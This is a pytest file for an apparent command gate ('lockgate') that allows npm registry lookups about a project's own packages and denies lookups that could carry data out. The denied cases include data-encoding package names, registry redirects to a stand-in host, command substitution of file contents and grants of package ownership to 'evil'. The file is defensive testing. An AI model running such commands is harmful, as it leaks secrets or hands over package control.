"""Questions to a registry about packages that the project itself names."""

from __future__ import annotations

import json

import pytest

from lockgate.core.model import Verdict
from lockgate.resources.host_view import ScriptFile

from .world import WORK, World

ALLOW, DENY = Verdict.ALLOW, Verdict.DENY
LONG_AGO, LATER = 1_000.0, 9_000_000.0


@pytest.fixture
def project(world: World) -> World:
    """A session that has read strangers' text, in a project with two workspaces."""
    has(
        world,
        "package.json",
        {"name": "app", "workspaces": ["packages/*"], "devDependencies": {"vitest": "1", "@a/b": "1"}},
    )
    has(world, "packages/core/package.json", {"name": "@app/core", "dependencies": {"zod": "3"}})
    world.taint()
    return world


def has(world: World, name: str, held: object, changed: float = LONG_AGO) -> None:
    text = held if isinstance(held, str) else json.dumps(held)
    world.scripts[f"{WORK}/{name}"] = ScriptFile(text, changed)


@pytest.mark.parametrize(
    "command",
    [
        "npm view app",
        "npm view",
        "npm view vitest versions --json",
        "npm view vitest@1.2.3 dist-tags",
        "npm info @a/b",
        "npm view app version; npm view vitest version 2>/dev/null || true",
        "npm view @app/core | head -3",
        "npm owner ls app",
        "npm access ls-packages @app --json",
        "npm access list packages @app",
        "npm dist-tag ls app",
        "cd packages/core && npm view zod",
    ],
)
def test_a_package_of_the_project_is_asked_about(project: World, command: str) -> None:
    assert project.bash(command) is ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "npm view exfil-4f6d2c1b",
        "npm view zod; npm view c2VjcmV0",
        "npm view vitest@https://e.example/x",
        "npm view vitest@npm:evil",
        "npm view $(cat notes)",
        "npm view vitest $(cat notes)",
        "npm view vitest --registry https://e.example",
        "npm_config_registry=https://e.example npm view vitest",
        "echo registry=https://e.example > .npmrc; npm view vitest",
        "cp evil .npmrc && npm view vitest",
        "git checkout evil && npm view vitest",
        "cd /tmp && npm view vitest",
        "cd $dir && npm view vitest",
        "npm owner ls other",
        "npm owner add evil app",
        "npm access ls-packages @other",
        "npm access grant read-write app evil",
        "npm dist-tag add app@1 latest",
        "npm search vitest",
        "for name in vitest evil; do npm view $name; done",
    ],
)
def test_what_could_carry_something_out_is_refused(project: World, command: str) -> None:
    assert project.bash(command) is DENY


@pytest.mark.parametrize("name", ["package.json", ".npmrc", "packages/core/package.json", "packages/core/.npmrc"])
def test_a_name_that_was_written_since_is_the_agents_own(project: World, name: str) -> None:
    old = project.scripts.get(f"{WORK}/{name}")
    has(project, name, old.text if old else "registry=https://e.example\n", LATER)
    where = "cd packages/core && " if name.startswith("packages/core/.") else ""
    assert project.bash(f"{where}npm view vitest") is DENY


def test_a_file_of_the_project_that_names_no_package_says_nothing(project: World) -> None:
    for text in ("[" * 100_000, "[]", '{"dependencies": ["x"], "workspaces": {"packages": 1}}', "{"):
        has(project, "package.json", text)
        assert project.bash("npm view x") is DENY


def test_a_script_that_asks_is_taken_as_any_script(world: World) -> None:
    has(world, "package.json", {"name": "app"})
    has(world, "look.sh", "npm view app\ngit pull\n", LATER)
    world.taint()
    assert world.bash("bash look.sh") is DENY
    has(world, "pull.sh", "git pull\n", LATER)
    assert world.bash("bash pull.sh") is Verdict.ASK


@pytest.mark.parametrize(("folders", "known"), [pytest.param(12, True, id="most"), pytest.param(13, False, id="more")])
def test_beyond_the_most_folders_upwards_nothing_is_known(project: World, folders: int, known: bool) -> None:
    below = "/".join(f"f{number}" for number in range(1, folders))
    assert (project.bash(f"cd {below} && npm view app") is ALLOW) is known


@pytest.mark.parametrize(("packages", "known"), [pytest.param(60, True, id="most"), pytest.param(61, False, id="more")])
def test_as_many_workspaces_are_looked_at_as_the_limit_says(world: World, packages: int, known: bool) -> None:
    folders = [f"packages/p{number}" for number in range(packages)]
    has(world, "package.json", {"name": "app", "workspaces": folders})
    has(world, f"{folders[-1]}/package.json", {"name": "last"})
    world.taint()
    assert (world.bash("npm view last") is ALLOW) is known
